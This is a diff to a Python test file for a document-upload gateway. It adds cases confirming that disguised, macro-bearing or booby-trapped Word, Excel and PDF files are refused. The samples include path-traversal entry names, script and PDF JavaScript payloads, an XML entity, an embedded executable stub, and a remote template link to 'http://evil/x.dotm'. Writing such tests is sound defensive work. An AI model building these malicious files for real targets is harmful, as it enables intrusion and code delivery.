@@ -20,6 +20,9 @@ from tests.gateway.edge import OWN, THING, Edge
 from tests.office import PLAIN, TYPES, docx, package, xlsx
 from tests.pictures import PDF, picture
 
+MACRO_ENABLED = PLAIN.replace(b"application/xml", b"application/vnd.ms-word.document.macroEnabled")
+MACRO_SHEET = b"application/vnd.ms-excel.macrosheet+xml"
+FAR = 'TargetMode="External"'
 PATH = f"/v1/organisations/{OWN}/documents"
 PDF_TYPE = "application/pdf"
 CLEAN = (sys.executable, "-c", "import sys; sys.stdin.buffer.read()")
@@ -43,6 +46,10 @@ def send(
         content_type=content_type,
         query_string={"purpose": purpose},
     )
+
+
+def relationship(kind: str, target: str, more: str = "") -> bytes:
+    return f'<Relationships><Relationship Type="http://x/{kind}" Target="{target}" {more}/></Relationships>'.encode()
 
 
 def with_scan(edge: Edge, command: tuple[str, ...], seconds: float = 10.0) -> Edge:
@@ -132,6 +139,8 @@ MANY = docx(**{f"word/media/image{number}.png": b"" for number in range(office_f
         (PDF_TYPE, b""),
         (PDF_TYPE, docx()),
         (PDF_TYPE, b"<script>"),
+        (PDF_TYPE, b"%PDF-1.7\n<script>alert(1)</script>"),
+        (PDF_TYPE, PDF + docx()),
         ("image/jpeg", picture("PNG")),
         ("image/png", picture()),
         ("image/png", PDF),
@@ -141,6 +150,9 @@ MANY = docx(**{f"word/media/image{number}.png": b"" for number in range(office_f
         (DOCX, xlsx()),
         (XLSX, docx()),
         (DOCX, package({"word/document.xml": b"<document/>"})),
+        (DOCX, docx(**{"../../etc/passwd": b""})),
+        (DOCX, docx(**{TYPES: b"<Types"})),
+        (DOCX, docx(**{TYPES: b'<!DOCTYPE Types [<!ENTITY a "a">]><Types>&a;</Types>'})),
         (DOCX, package({TYPES: PLAIN, "document.xml": b"<document/>"})),
         (DOCX, package({TYPES: PLAIN, "word/document.xml": b"<document/>"}, zipfile.ZIP_BZIP2)),
         (DOCX, package({TYPES: PLAIN, "word/document.xml": b"<document/>"}, zipfile.ZIP_LZMA)),
@@ -150,7 +162,7 @@ MANY = docx(**{f"word/media/image{number}.png": b"" for number in range(office_f
         (DOCX, encrypted(docx())),
         (DOCX, broken(docx(**{"word/styles.xml": b"<styles/>" * 100}))),
     ],
-    ids=range(20),
+    ids=range(25),
 )
 def test_what_is_not_what_it_says_goes_no_further(edge: Edge, content_type: str, body: bytes) -> None:
     answer = send(edge, content_type, body)
@@ -166,13 +178,25 @@ def test_what_is_not_what_it_says_goes_no_further(edge: Edge, content_type: str,
         (xlsx(**{"xl/vbaProject.bin": b"\xd0\xcf"}), XLSX),
         (xlsx(**{"xl/macrosheets/sheet1.xml": b"<xm/>"}), XLSX),
         (docx(**{"word/activeX/activeX1.bin": b"\0"}), DOCX),
-        (docx(**{TYPES: PLAIN.replace(b"application/xml", b"application/vnd.ms-word.document.macroEnabled")}), DOCX),
+        (docx(**{TYPES: MACRO_ENABLED}), DOCX),
+        (docx(**{TYPES: MACRO_ENABLED.decode().encode("utf-16")}), DOCX),
+        (xlsx(**{"xl/ms/sheet1.xml": b"<xm/>", TYPES: PLAIN.replace(b"application/xml", MACRO_SHEET)}), XLSX),
+        (xlsx(**{"xl/_rels/workbook.xml.rels": relationship("xlMacrosheet", "ms/sheet1.xml")}), XLSX),
+        (docx(**{"word/_rels/settings.xml.rels": relationship("attachedTemplate", "http://evil/x.dotm", FAR)}), DOCX),
+        (docx(**{"word/embeddings/evil.exe": b"MZ"}), DOCX),
+        (PDF.replace(b"%%EOF", b"<</OpenAction <</S /JavaScript /JS (app.alert(1))>>>>\n%%EOF"), PDF_TYPE),
     ],
 )
 def test_macros_are_refused(edge: Edge, body: bytes, content_type: str) -> None:
     answer = send(edge, content_type, body)
 
     assert (answer.status_code, answer.json["code"], edge.client.calls) == (422, "file.holds_macros", [])
+
+
+def test_what_is_clicked_on_may_be_elsewhere(edge: Edge) -> None:
+    linked = docx(**{"word/_rels/document.xml.rels": relationship("hyperlink", "https://example.org/", FAR)})
+
+    assert send(edge, DOCX, linked).status_code == 201
 
 
 @pytest.mark.parametrize("content_type", ["text/html", "application/zip", "application/octet-stream", ""])
